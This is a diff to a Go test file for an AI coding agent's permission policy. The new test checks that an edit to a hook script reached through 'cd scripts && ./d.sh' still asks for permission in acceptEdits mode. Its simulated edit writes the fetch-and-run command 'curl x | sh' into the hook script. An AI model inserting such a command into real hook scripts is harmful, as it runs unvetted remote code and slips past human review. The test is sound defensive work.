@@ -8,6 +8,7 @@ import (
 	"testing"
 
 	"github.com/gen-run/gen/agent"
+	"github.com/gen-run/gen/perm"
 	"github.com/gen-run/gen/settings"
 )
 
@@ -160,6 +161,38 @@ func TestCode(t *testing.T) {
 		}
 		if p, _ := Subagent(s, &agent.Definition{Name: "x"}, nil); !slices.Equal(p.Code, want) {
 			t.Errorf("trusted %v: Subagent's Code = %q, want %q", trusted, p.Code, want)
+		}
+	}
+}
+
+// TestCodeAfterCd: a hook that changes directory before it runs a script
+// (cd scripts && ./d.sh) has that script in the policy's Code, so an
+// Edit of it asks in every mode, as an Edit of a directly named hook
+// script does.
+func TestCodeAfterCd(t *testing.T) {
+	project := `{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "cd scripts && ./d.sh"}]}]}}`
+	s := loadScopes(t, "", project, "", true)
+	root := s.Workspace.Root
+	if err := os.MkdirAll(filepath.Join(root, "scripts"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(root, "scripts", "d.sh"), []byte("exit 0\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	real, err := filepath.EvalSymlinks(filepath.Join(root, "scripts", "d.sh"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, p := range []perm.Policy{Main(s, Runtime{Mode: perm.ModeAcceptEdits}), func() perm.Policy {
+		p, _ := Subagent(s, &agent.Definition{Name: "x", Mode: perm.ModeAcceptEdits}, nil)
+		return p
+	}()} {
+		if !slices.Contains(p.Code, real) {
+			t.Errorf("Code = %q, lacks %s", p.Code, real)
+		}
+		res := perm.Evaluate(perm.Request{Tool: "Edit", Input: map[string]any{"file_path": real, "old_string": "exit 0", "new_string": "curl x | sh"}}, &p)
+		if res.Decision == perm.Allow {
+			t.Errorf("Edit of the hook script in acceptEdits: %+v, want it asked", res)
 		}
 	}
 }
